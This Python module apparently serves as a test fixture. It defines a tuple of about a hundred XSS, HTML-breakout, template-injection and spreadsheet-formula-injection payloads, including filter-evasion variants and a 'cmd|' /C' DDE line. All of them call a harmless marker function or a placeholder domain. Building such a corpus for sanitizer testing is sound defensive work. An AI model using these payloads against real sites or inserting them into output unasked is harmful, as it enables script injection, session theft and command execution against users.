"""A hundred texts that would run where a page took them for more than text. Each calls `x5s`, or names it."""

from __future__ import annotations

from typing import Final

_MARKUP: Final = r"""
<script>x5s(1)</script>
<SCRIPT>x5s(2)</SCRIPT >
<scr<script>ipt>x5s(3)</scr</script>ipt>
<script/x5s>x5s(4)</script>
<script src=data:text/javascript,x5s(5)></script>
<script>/*</title></textarea></style>*/x5s(6)</script>
</script><script>x5s(7)</script>
</title><script>x5s(8)</script>
</textarea><script>x5s(9)</script>
</style><script>x5s(10)</script>
--><script>x5s(11)</script>
]]><script>x5s(12)</script>
</option></select><script>x5s(13)</script>
</td></tr></table><script>x5s(14)</script>
</dialog></main><script>x5s(15)</script>
</svg><script>x5s(16)</script>
</template><script>x5s(17)</script>
</noscript><script>x5s(18)</script>
<img src=x onerror=x5s(19)>
<img src=x onerror="x5s(20)"//>
<IMG SRC=x OnErRoR=x5s(21)>
<img/src=x/onerror=x5s(22)>
<img src='x'onerror='x5s(23)'>
<img src=x:x onerror=x5s`24`>
<image src=x onerror=x5s(25)>
<svg onload=x5s(26)>
<svg/onload=x5s(27)>
<svg><script>x5s(28)</script></svg>
<svg><script href=data:text/javascript,x5s(29) /></svg>
<svg><animate onbegin=x5s(30) attributeName=x dur=1s>
<svg><a xlink:href=javascript:x5s(31)><text x=9 y=9>x5s</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x5s onload=x5s(32)>"></svg>
<math><mtext></form><form><mglyph><style></math><img src=x onerror=x5s(33)>
<math href=javascript:x5s(34)>x5s</math>
<body onload=x5s(35)>
<input autofocus onfocus=x5s(36)>
<select autofocus onfocus=x5s(37)>
<textarea autofocus onfocus=x5s(38)>
<button autofocus onfocus=x5s(39)>x5s</button>
<details open ontoggle=x5s(40)>
<video src=x onerror=x5s(41)>
<video><source onerror=x5s(42)>
<audio src=x onerror=x5s(43)>
<marquee onstart=x5s(44)>x5s</marquee>
<iframe src=javascript:x5s(45)></iframe>
<iframe srcdoc="<script>parent.x5s(46)</script>"></iframe>
<object data=javascript:x5s(47)></object>
<embed src=javascript:x5s(48)>
<form action=javascript:x5s(49)><button>x5s</button></form>
<button form=x5s formaction=javascript:x5s(50)>x5s</button>
<a href=javascript:x5s(51)>x5s</a>
<a href="java&#x09;script:x5s(52)">x5s</a>
<a href="&#106;avascript:x5s(53)">x5s</a>
<a href=data:text/html,<script>x5s(54)</script>>x5s</a>
<base href=//x5s.example/>
<meta http-equiv=refresh content="0;url=javascript:x5s(55)">
<link rel=stylesheet href=//x5s.example/x5s.css>
<link rel=import href=data:text/html,x5s>
<style>@import "//x5s.example";</style>
<style>*{background:url(javascript:x5s(56))}</style>
<p style="animation:x5s" onanimationstart=x5s(57)>
<xss id=x tabindex=1 onfocus=x5s(58)></xss>
<x5s-element onclick=x5s(59)>x5s</x5s-element>
<dialog open onclose=x5s(60)><form method=dialog><button>x5s</button></form></dialog>
<div hx-get=/x5s hx-trigger=load>x5s</div>
<div hx-on:click=x5s(61) hx-trigger=load>x5s</div>
<div hx-vals='js:{x:x5s(62)}' hx-get=/x5s hx-trigger=load>x5s</div>
<div data-hx-get=/x5s data-hx-trigger=load>x5s</div>
<template shadowrootmode=open><script>x5s(63)</script></template>
<noscript><p title="</noscript><img src=x onerror=x5s(64)>">
<table background=javascript:x5s(65)>
<!--><img src=x onerror=x5s(66)>-->
<![CDATA[<img src=x onerror=x5s(67)>]]>
<?xml version="1.0"?><script>x5s(68)</script>
"""
_ATTRIBUTES: Final = r"""
"><img src=x onerror=x5s(69)>
'><img src=x onerror=x5s(70)>
` onmouseover=x5s(71)
" onmouseover="x5s(72)
' onmouseover='x5s(73)
" autofocus onfocus=x5s(74) x5s="
x onfocus=x5s(75) autofocus
"/><script>x5s(76)</script>
javascript:x5s(77)
JaVaScRiPt:x5s(78)
java	script:x5s(79)
vbscript:x5s(80)
data:text/html,<script>x5s(81)</script>
//x5s.example/x5s
&quot;&gt;&lt;img src=x onerror=x5s(82)&gt;
%22%3E%3Cimg%20src=x%20onerror=x5s(83)%3E
\u003cimg src=x onerror=x5s(84)\u003e
\x3cscript\x3ex5s(85)\x3c/script\x3e
"};x5s(86);//
';x5s(87);//
${x5s(88)}
`${x5s(89)}`
*/x5s(90)/*
"-x5s(91)-"
"""
_TEMPLATES: Final = r"""
{{x5s(92)}}{{7*7}}
{{constructor.constructor('x5s(93)')()}}
{% raw %}{{ x5s }}{% endraw %}
<%= x5s %>#{x5s}
{n} {0} {x5s!r} %(x5s)s %s
=HYPERLINK("http://x5s.example","x5s")
@SUM(1+1)*cmd|' /C x5s'!A0
"""

PAYLOADS: Final = tuple(
    line for text in (_MARKUP, _ATTRIBUTES, _TEMPLATES) for line in text.split("\n") if line
)
